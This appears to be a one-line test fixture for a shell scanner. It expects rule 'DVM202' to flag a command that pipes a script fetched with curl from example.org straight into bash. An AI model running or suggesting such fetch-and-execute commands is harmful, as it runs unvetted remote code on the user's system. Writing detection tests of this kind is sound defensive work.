# expect: DVM202
"$BASH" -c "$(curl -fsSL https://example.org/i.sh)"
